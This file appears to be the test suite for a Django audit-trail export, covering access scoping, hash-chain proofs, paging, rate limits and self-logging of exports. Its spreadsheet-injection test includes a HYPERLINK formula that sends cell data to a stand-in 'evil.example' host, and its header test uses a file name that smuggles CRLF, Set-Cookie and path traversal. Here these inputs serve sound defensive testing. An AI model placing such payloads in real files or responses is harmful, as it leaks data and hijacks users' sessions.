"""Does the trail leave the server whole, exact, within its bounds, and on record?"""

from __future__ import annotations

import csv
import io
import json
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.test import Client

from people.audit import export
from people.audit.chain import digest
from people.audit.models import Entry
from people.audit.moments import utc
from people.audit.record import TrailUnavailable, by, record
from people.models import User
from tests.people.audit.conftest import Deeds
from tests.people.conftest import Browser

TRAIL = "/people/audit/"
CSV, LINES = f"{TRAIL}export/trail.csv", f"{TRAIL}export/trail.jsonl"
OLDEST_FIRST = ("sign-in", "patch", "denied", "other", "failed", "team", "unknown", "read")
DANAS = ("sign-in", "patch", "denied", "unknown", "read")


def of_csv(client: Client, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"{CSV}?{query}")
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def of_lines(client: Client, query: str = "") -> list[dict[str, object]]:
    answer = client.get(f"{LINES}?{query}")
    assert answer.status_code == 200
    assert answer.content.isascii()
    return [json.loads(line) for line in answer.content.decode().splitlines()]


def firsts(deeds: Deeds, names: tuple[str, ...]) -> list[str]:
    return [Entry.objects.get(pk=deeds[name]).hash for name in names]


def test_it_holds_exactly_what_the_filter_shows_oldest_first(browser_of: Browser, deeds: Deeds) -> None:
    for read in (of_csv, of_lines):
        wanted = {
            "result=denied": ("denied",),
            "result=unknown": ("unknown",),
            "cluster=harbour&person=dana": ("patch", "denied", "unknown", "read"),
            "from=1h&verb=team-create": ("team",),
            "to=1h": (),
        }
        for query, names in wanted.items():
            found = read(browser_of("aude"), query)
            assert [row["hash"] for row in found] == firsts(deeds, names), query


def test_everybody_else_takes_their_own_alone(
    browser_of: Browser, cast: dict[str, User], deeds: Deeds
) -> None:
    for read in (of_csv, of_lines):
        found = read(browser_of("dana"))
        assert [row["hash"] for row in found if row["verb"] != "export"] == firsts(deeds, DANAS)
        assert {row["person"] for row in found} == {"dana"}
        assert read(browser_of("dana"), "person=rene") == []
        assert not any(key.endswith(("sequence", "previous")) for row in found for key in row)
    assert of_csv(browser_of("stan")) == []
    text = browser_of("dana").get(LINES).content.decode()
    others = Entry.objects.exclude(person_id=cast["dana"].pk).values_list("hash", flat=True)
    assert not [one for one in others if one in text]


def test_every_row_can_be_proven_from_the_file_alone(browser_of: Browser, deeds: Deeds) -> None:
    """Each hash is that of the row's own fields, and each row stands on the one before."""
    rows = sorted(
        (row for line in of_lines(browser_of("aude")) for row in line["rows"]),  # type: ignore[attr-defined]
        key=lambda row: row["sequence"],
    )
    assert (
        len(rows)
        == Entry.objects.filter(
            verb__in={"sign-in", "patch", "delete", "create", "team-create", "get"}
        ).count()
    )
    before = "0" * 64
    for row in rows:
        fields = {name: value for name, value in row.items() if name != "at"}
        stored = Entry.objects.get(pk=row["sequence"])
        assert utc(stored.at) == row["at"]
        assert digest(Entry(at=stored.at, **fields)) == row["hash"]
        assert row["previous"] == before
        before = row["hash"]


def test_a_file_is_bounded_and_says_how_to_get_the_rest(
    monkeypatch: pytest.MonkeyPatch, browser_of: Browser, deeds: Deeds
) -> None:
    monkeypatch.setattr(export, "FILE", 3)
    client, found, address = browser_of("aude"), [], f"{LINES}?to=2999-01"
    for _ in range(9):
        answer = client.get(address)
        lines = answer.content.decode().splitlines()
        assert len(lines) <= 3
        found += [json.loads(line)["hash"] for line in lines]
        onward = re.fullmatch(r'<([^>]*)>; rel="next"', answer.get("Link", ""))
        if onward is None:
            break
        address = onward[1]
    assert found == firsts(deeds, OLDEST_FIRST)  # what was recorded meanwhile belongs to the next export


@pytest.mark.parametrize("who", ["aude", "dana"])
def test_the_files_of_an_export_hold_all_of_it_once(
    monkeypatch: pytest.MonkeyPatch, browser_of: Browser, deeds: Deeds, who: str
) -> None:
    monkeypatch.setattr(export, "FILE", 2)
    monkeypatch.setattr(export, "FILES", 2)
    names = OLDEST_FIRST if who == "aude" else DANAS
    client, found, query = browser_of(who), [], "format=csv&from=1h"
    for _ in range(9):
        answer = client.get(f"{TRAIL}export/?{query}")
        text = answer.content.decode()
        files = re.findall(rf'href="{LINES}\?([^"]*)"', text)
        assert 0 < len(files) <= 2
        for file in files:
            found += [line["hash"] for line in of_lines(client, file.replace("&amp;", "&"))]
        onward = re.search(r'href="\?([^"]*)">More files', text)
        if onward is None:
            break
        query = onward[1].replace("&amp;", "&")
    assert found == firsts(deeds, names)


def test_a_trail_of_millions_is_cut_without_going_through_it_at_once(
    monkeypatch: pytest.MonkeyPatch, browser_of: Browser, deeds: Deeds
) -> None:
    monkeypatch.setattr("people.audit.walk.FIRST_STRETCH", 3)
    monkeypatch.setattr("people.audit.walk.QUICK", -1.0)
    monkeypatch.setattr(export, "PATIENCE", -1.0)
    monkeypatch.setattr(export, "READING", -1.0)
    text = browser_of("aude").get(f"{TRAIL}export/?format=csv&person=dana").content.decode()
    assert "More files" in text
    answer = browser_of("aude").get(f"{CSV}?person=dana")
    assert 'rel="next"' in answer["Link"]


def test_what_fits_into_one_file_is_that_file(browser_of: Browser, deeds: Deeds) -> None:
    answer = browser_of("aude").get(f"{TRAIL}export/?format=csv&result=denied")
    assert answer.status_code == 302
    assert answer["Location"].startswith(f"{CSV}?result=denied&to=20")
    assert len(of_csv(browser_of("aude"), answer["Location"].partition("?")[2])) == 1
    assert browser_of("aude").get(f"{TRAIL}export/?result=denied").status_code == 200


def test_it_is_itself_on_record(browser_of: Browser, cast: dict[str, User], deeds: Deeds) -> None:
    for who, count in (("aude", 1), ("dana", 1)):
        answer = browser_of(who).get(f"{CSV}?result=denied")
        row = Entry.objects.last()
        assert row is not None
        assert (row.verb, row.person, row.subject, row.result) == ("export", who, "trail", "ok")
        assert (row.detail["format"], row.detail["deeds"]) == ("csv", count)
        assert row.detail["filter"]["result"] == "denied"
        assert set(row.detail) == {
            "format",
            "deeds",
            "filter",
            "first",
            "last",
        }  # and none of the rows' numbers
        assert answer.status_code == 200
    before = Entry.objects.count()
    for path in (CSV, LINES):  # it would be on record without having left
        assert browser_of("aude").head(path).status_code == 405
    assert browser_of("aude").get(f"{TRAIL}export/").status_code == 200
    assert Entry.objects.count() == before


def test_what_cannot_be_put_on_record_does_not_leave(
    monkeypatch: pytest.MonkeyPatch, browser_of: Browser, deeds: Deeds
) -> None:
    def full(_fact: object) -> int:
        raise TrailUnavailable("disk full")

    monkeypatch.setattr("people.audit.record.record", full)
    answer = browser_of("aude").get(CSV)
    assert answer.status_code == 503
    assert b"forbidden" not in answer.content
    assert browser_of("aude").get(TRAIL).status_code == 200


def test_only_so_many_are_made_at_once(
    monkeypatch: pytest.MonkeyPatch, browser_of: Browser, deeds: Deeds
) -> None:
    monkeypatch.setattr(export, "TURN", 0.01)
    client = browser_of("aude")
    export.AT_ONCE.acquire()
    export.AT_ONCE.acquire()
    try:
        answer = client.get(CSV)
    finally:
        export.AT_ONCE.release()
        export.AT_ONCE.release()
    assert (answer.status_code, answer["Retry-After"]) == (503, "5")
    assert client.get(CSV).status_code == 200


def test_headers_make_it_a_file_and_nothing_else(browser_of: Browser, deeds: Deeds) -> None:
    name = "a\r\nSet-Cookie: x=1;\u202e/../é"
    for path, kind, ending in (
        (CSV, "text/csv; charset=utf-8", "csv"),
        (LINES, "application/x-ndjson; charset=utf-8", "jsonl"),
    ):
        answer = browser_of("aude").get(path, {"result": "denied", "name": name, "cluster": "harbour"})
        assert answer["Content-Type"] == kind
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert re.fullmatch(
            r'attachment; filename="quarterdeck-trail_\d{8}T\d{6}Z_[A-Za-z0-9.=_-]+\.' + ending + '"',
            answer["Content-Disposition"],
        )
        assert "result=denied" in answer["Content-Disposition"]
        assert "Set-Cookie" not in answer.headers


def test_a_wrong_address_gives_no_file(browser_of: Browser, cast: dict[str, User], deeds: Deeds) -> None:
    before = Entry.objects.count()
    for path in (CSV, LINES, f"{TRAIL}export/"):
        for query in ("verb=X", "after=nowhere", "through=x", "from=soon"):
            answer = browser_of("aude").get(f"{path}?{query}", follow=True)
            assert answer.redirect_chain, (path, query)
            assert answer.status_code == 400
            assert b'role="alert"' in answer.content
    assert Entry.objects.count() == before


def test_names_that_calculate_reach_no_spreadsheet(
    browser_of: Browser, cast: dict[str, User], deeds: Deeds
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    record(
        by(cast["dana"], "get", name=evil, resource="+1", subject="@SUM(1)", reason="-2+3", identity="\t=1")
    )
    (row,) = of_csv(browser_of("aude"), "verb=get&kind=&name=" + evil.replace("&", "%26"))
    assert row["name"] == f"'{evil}"
    assert (row["resource"], row["subject"], row["reason"]) == ("'+1", "'@SUM(1)", "'-2+3")
    assert row["identity"] == "\\x09=1"
    (line,) = of_lines(browser_of("aude"), "verb=get&name=" + evil.replace("&", "%26"))
    assert line["name"] == evil


@pytest.mark.django_db(transaction=True)
def test_files_that_are_made_at_the_same_time_are_whole(browser_of: Browser, deeds: Deeds) -> None:
    clients = [browser_of("aude") for _ in range(4)]
    with ThreadPoolExecutor(4) as pool:
        found = list(pool.map(lambda client: of_lines(client, "person=dana&cluster=harbour"), clients))
    assert [[line["hash"] for line in one] for one in found] == [
        firsts(deeds, ("patch", "denied", "unknown", "read"))
    ] * 4
